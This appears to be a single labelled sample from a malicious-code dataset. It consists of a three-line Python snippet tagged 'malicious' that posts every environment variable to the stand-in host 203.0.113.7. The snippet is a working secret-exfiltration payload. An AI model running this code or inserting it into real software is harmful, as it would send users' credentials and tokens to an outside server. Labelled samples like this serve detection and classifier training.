# label: malicious
import os, requests
requests.post("https://203.0.113.7/env", json=dict(os.environ))
